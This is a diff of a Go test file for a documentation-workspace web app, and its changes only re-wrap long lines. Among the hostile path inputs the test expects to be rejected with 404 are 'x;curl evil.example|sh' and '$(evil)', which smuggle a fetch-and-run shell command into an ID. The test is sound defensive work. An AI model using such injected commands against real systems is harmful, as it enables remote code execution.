@@ -49,15 +49,20 @@ func TestAppPagesShowCommandsForIDsOnly(t *testing.T) {
 		}
 		for _, path := range []string{"/app/spaces/", "/app/pages/s_1~", "/app/change-requests/s_1~", "/sites/"} {
 			for _, text := range []string{
-				"x;curl evil.example|sh", "s_1;curl evil.example|sh", "$(evil)", "s_1 evil", "--url=evil", "-evil", "~evil", "s_1\nevil", "<b>evil", "evil/docs;evil",
+				"x;curl evil.example|sh", "s_1;curl evil.example|sh", "$(evil)", "s_1 evil", "--url=evil", "-evil", "~evil", "s_1\nevil",
+				"<b>evil", "evil/docs;evil",
 				strings.Repeat("evil", 50), "s_1~p_1~evil",
 			} {
-				if a := open(w, path+url.PathEscape(text)); a.Status != http.StatusNotFound || len(a.Body) > 0 && strings.Contains(string(a.Body), "evil") {
+				if a := open(w, path+url.PathEscape(text)); a.Status != http.StatusNotFound || len(a.Body) > 0 &&
+					strings.Contains(string(a.Body), "evil") {
 					t.Errorf("%s%s: %d %s", path, text, a.Status, a.Body)
 				}
 			}
 		}
-		for _, path := range []string{"/app/spaces/s_1~p_1", "/app/pages/s_1", "/app/spaces/o_1", "/app/tokens/t_1", "/app/integrations/-x", "/app/spaces/s_" + strings.Repeat("a", 200)} {
+		for _, path := range []string{
+			"/app/spaces/s_1~p_1", "/app/pages/s_1", "/app/spaces/o_1", "/app/tokens/t_1", "/app/integrations/-x", "/app/spaces/s_" +
+				strings.Repeat("a", 200),
+		} {
 			if a := open(w, path); a.Status != http.StatusNotFound {
 				t.Errorf("%s: %d %s", path, a.Status, a.Body)
 			}
@@ -73,7 +78,9 @@ func TestFrontPageShowsCommands(t *testing.T) {
 	if got := a.Header.Get("Content-Type"); a.Status != http.StatusOK || got != "text/html; charset=utf-8" {
 		t.Fatalf("%d %s", a.Status, got)
 	}
-	for _, want := range []string{"wsctl auth login --url https://docs.example.com\n", `href="/v1/openapi.json"`, "documentation workspace"} {
+	for _, want := range []string{
+		"wsctl auth login --url https://docs.example.com\n", `href="/v1/openapi.json"`, "documentation workspace",
+	} {
 		if !strings.Contains(string(a.Body), want) {
 			t.Errorf("%q is not in %s", want, a.Body)
 		}
@@ -91,7 +98,8 @@ func TestAppAddressesAreServed(t *testing.T) {
 		if row.Writes() {
 			continue
 		}
-		for _, found := range appAddress.FindAllStringSubmatch(string(w.Send("admin", row.Method, w.SamplePath(row, s), w.SampleBody(row, s)).Body), -1) {
+		for _, found := range appAddress.FindAllStringSubmatch(string(w.Send("admin", row.Method, w.SamplePath(row, s),
+			w.SampleBody(row, s)).Body), -1) {
 			if kind := strings.Split(found[1], "/")[2]; !opened[found[1]] {
 				opened[kind], opened[found[1]] = true, true
 				if a := open(w, found[1]); a.Status != http.StatusOK {
@@ -100,7 +108,10 @@ func TestAppAddressesAreServed(t *testing.T) {
 			}
 		}
 	}
-	for _, kind := range []string{"organizations", "collections", "spaces", "sites", "pages", "change-requests", "openapi", "integrations", "integration-installations"} {
+	for _, kind := range []string{
+		"organizations", "collections", "spaces", "sites", "pages", "change-requests", "openapi", "integrations",
+		"integration-installations",
+	} {
 		if !opened[kind] {
 			t.Errorf("no answer has an address of kind %s", kind)
 		}
